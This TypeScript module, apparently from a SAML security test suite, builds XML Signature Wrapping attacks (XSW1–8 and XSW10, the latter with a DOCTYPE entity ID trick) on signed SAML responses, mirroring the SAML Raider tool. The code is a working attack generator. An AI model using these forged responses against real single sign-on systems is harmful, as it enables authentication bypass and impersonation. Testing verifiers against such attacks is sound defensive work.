/**
 * XML Signature Wrapping XSW1–XSW8 exactly as SAML Raider builds them
 * (CompassSecurity/SAMLRaider src/main/java/helpers/XSWHelpers.java, applyXSW1..8), on a DOM.
 * "evil" = the copy whose values `makeEvil` changed. Elements SAML Raider creates without a
 * namespace (Extensions in XSW7, Object in XSW8) are created without one here too.
 */
import type { Document, Element } from '@xmldom/xmldom';
import { assertionOf, makeEvil, mutate, responseOf, stripFirstSignature } from './mutate.js';
import { descendants } from '../support/xml-sign.js';

function firstSignature(el: Element): Element {
  const sig = descendants(el, 'Signature')[0];
  if (!sig) throw new Error('XSW needs a signed element');
  return sig;
}

const XSW: Record<number, (doc: Document) => void> = {
  1: (doc) => {
    const response = responseOf(doc);
    const clone = response.cloneNode(true) as Element;
    makeEvil(response);
    stripFirstSignature(clone);
    firstSignature(response).appendChild(clone);
    response.setAttribute('ID', '_evil_response_ID');
  },
  2: (doc) => {
    const response = responseOf(doc);
    const clone = response.cloneNode(true) as Element;
    makeEvil(response);
    stripFirstSignature(clone);
    const signature = firstSignature(response);
    signature.parentNode!.insertBefore(clone, signature);
    response.setAttribute('ID', '_evil_response_ID');
  },
  3: (doc) => {
    const assertion = assertionOf(doc);
    const evil = assertion.cloneNode(true) as Element;
    makeEvil(evil);
    evil.setAttribute('ID', '_evil_assertion_ID');
    stripFirstSignature(evil);
    responseOf(doc).insertBefore(evil, assertion);
  },
  4: (doc) => {
    const assertion = assertionOf(doc);
    const evil = assertion.cloneNode(true) as Element;
    makeEvil(evil);
    evil.setAttribute('ID', '_evil_assertion_ID');
    stripFirstSignature(evil);
    responseOf(doc).appendChild(evil);
    evil.appendChild(assertion);
  },
  5: (doc) => {
    const evil = assertionOf(doc);
    const copy = evil.cloneNode(true) as Element;
    makeEvil(evil);
    stripFirstSignature(copy);
    responseOf(doc).appendChild(copy);
    evil.setAttribute('ID', '_evil_assertion_ID');
  },
  6: (doc) => {
    const evil = assertionOf(doc);
    const originalSignature = firstSignature(evil);
    const copy = evil.cloneNode(true) as Element;
    makeEvil(evil);
    stripFirstSignature(copy);
    originalSignature.appendChild(copy);
    evil.setAttribute('ID', '_evil_assertion_ID');
  },
  7: (doc) => {
    const assertion = assertionOf(doc);
    const extensions = doc.createElement('Extensions');
    responseOf(doc).insertBefore(extensions, assertion);
    const evil = assertion.cloneNode(true) as Element;
    makeEvil(evil);
    stripFirstSignature(evil);
    extensions.appendChild(evil);
  },
  8: (doc) => {
    const evil = assertionOf(doc);
    const originalSignature = firstSignature(evil);
    const copy = evil.cloneNode(true) as Element;
    makeEvil(evil);
    stripFirstSignature(copy);
    const object = doc.createElement('Object');
    originalSignature.appendChild(object);
    object.appendChild(copy);
  },
};

/**
 * SAML Raider's XSW10 (needs Response and Assertion signed): drop the Response signature, put a
 * copy of the Assertion signature after the Response Issuer with the original Assertion inside a
 * ds:Object, rename and unsign the top-level Assertion. With `entities`, the IDs are hidden behind
 * DOCTYPE entities exactly as SAML Raider's applyDOCTYPE does.
 */
export function applyXsw10(xml: string, entities: boolean): string {
  let objectAssertionId = '';
  const out = mutate(xml, (doc) => {
    const response = responseOf(doc);
    const assertion = assertionOf(doc);
    const responseSignature = descendants(response, 'Signature').find((s) => s.parentNode === response);
    if (responseSignature) response.removeChild(responseSignature);
    const assertionSignature = firstSignature(assertion);
    const clonedSignature = assertionSignature.cloneNode(true) as Element;
    const issuer = descendants(response, 'Issuer')[0]!;
    response.insertBefore(clonedSignature, issuer.nextSibling);
    const object = doc.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'Object');
    object.setAttribute('xmlns', 'http://www.w3.org/2000/09/xmldsig#');
    clonedSignature.appendChild(object);
    const copy = assertion.cloneNode(true) as Element;
    object.appendChild(copy);
    objectAssertionId = copy.getAttribute('ID')!;
    makeEvil(assertion);
    assertion.setAttribute('ID', `${objectAssertionId}ffff`);
    assertion.removeChild(assertionSignature);
    if (entities) {
      response.setAttribute('ID', '&idViaEntity;');
      copy.setAttribute('ID', `&BypassIDUniqueness;${objectAssertionId}`);
    }
  });
  if (!entities) return out;
  const doctype = `<!DOCTYPE response [\n<!ENTITY idViaEntity "${objectAssertionId}">\n<!ENTITY BypassIDUniqueness "&#x50;">\n]>`;
  return `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}${out.replace(/^<\?xml[^>]*\?>/, '').replace(/&amp;/g, '&')}`;
}

/** Apply SAML Raider's XSW`n` (1–8) to a signed response. */
export function applyXsw(n: number, xml: string): string {
  const attack = XSW[n];
  if (!attack) throw new Error(`no XSW${n}`);
  return mutate(xml, attack);
}
